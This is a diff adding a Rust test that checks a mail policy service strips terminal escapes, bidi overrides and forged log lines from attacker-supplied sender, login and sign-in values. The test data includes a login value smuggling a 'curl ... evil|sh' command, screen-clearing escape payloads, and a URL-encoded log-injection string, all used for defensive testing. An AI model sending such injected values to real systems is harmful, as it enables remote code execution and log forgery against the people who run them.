@@ -213,3 +213,60 @@ fn the_portal_s_address_is_protected() {
     assert!(with("url = \"http://postern.example.com\"\ninsecure_http = true").0);
     postern.run();
 }
+
+/// A sender that clears the screen, sets the window's title and turns the direction of what follows.
+const NASTY: &str = "\"\u{1b}[2J\u{1b}]0;owned\u{7}\u{9b}31m\u{202e}\"@example.com";
+
+fn has_unseen(text: &str) -> bool {
+    text.chars().any(|c| c != '\n' && (c.is_control() || ('\u{202a}'..='\u{202e}').contains(&c)))
+}
+
+#[test]
+fn what_strangers_write_moves_no_cursor_and_forges_no_line() {
+    let postern = Postern::start("[outbound_policy]\nexternal_per_hour = 1\n[log]\nlevel = \"debug\"\n");
+    let ask = |instance: &str, login: &str| {
+        let mut door = postern.door();
+        let request = format!(
+            "request=smtpd_access_policy\nprotocol_state=RCPT\ninstance={instance}\nsender={NASTY}\nhelo_name={NASTY}\n\
+             recipient=someone@example.net\nsasl_username={login}\n\n"
+        );
+        door.send(request.as_bytes());
+        door.receive().unwrap()
+    };
+    let account = "x;curl${ifs}evil|sh\u{1b}[2J@example.com";
+    assert_eq!(ask("1", account), "DUNNO");
+    let refused = ask("2", account);
+    assert!(refused.starts_with("550") && !has_unseen(&refused), "{refused:?}");
+    let shown = postern.json(&["restricted"]);
+    let entity = shown[0]["entity"].as_str().unwrap();
+    assert!(has_unseen(entity), "programs get it as it is: {entity:?}");
+    let reference = shown[0]["reference"].as_str().unwrap();
+    let commands: [&[&str]; 8] = [
+        &["restricted"],
+        &["alerts"],
+        &["audit"],
+        &["explain", reference],
+        &["restricted", "show", entity],
+        &["usage", entity],
+        &["usage", "nobody\u{1b}[2J@example.com"],
+        &["--json", "restricted"],
+    ];
+    for command in commands {
+        let output = postern.cli(command);
+        let said = String::from_utf8([output.stdout, output.stderr].concat()).unwrap();
+        assert!(!said.is_empty() && !has_unseen(&said), "{command:?}: {said:?}");
+    }
+    // A failed sign-in and a provider's answer are logged in one line each.
+    let mut stranger = Visitor::new(postern.portal_port);
+    stranger.post("/sign-in", "address=%1b%5b2J%0aforged%3a+line%e2%80%ae&password=x");
+    wait_for("the log", || postern.log().contains("sign-in failed"));
+    assert!(!has_unseen(&postern.log()), "{}", postern.log());
+    assert!(!postern.log().lines().any(|line| line.starts_with("forged")), "{}", postern.log());
+    // The command in the alert's mail is one command.
+    let database = rusqlite::Connection::open(postern.data().join("postern.db")).unwrap();
+    let mail: Vec<u8> = database
+        .query_row("SELECT message FROM outbox WHERE recipient = 'admin@example.com'", [], |row| row.get(0))
+        .unwrap();
+    let mail = String::from_utf8_lossy(&mail).replace("=\r\n", "").replace("=3D", "=");
+    assert!(mail.contains("postern restricted release 'x;curl${ifs}evil|sh\\u{1b}[2j@example.com' --reason"), "{mail}");
+}
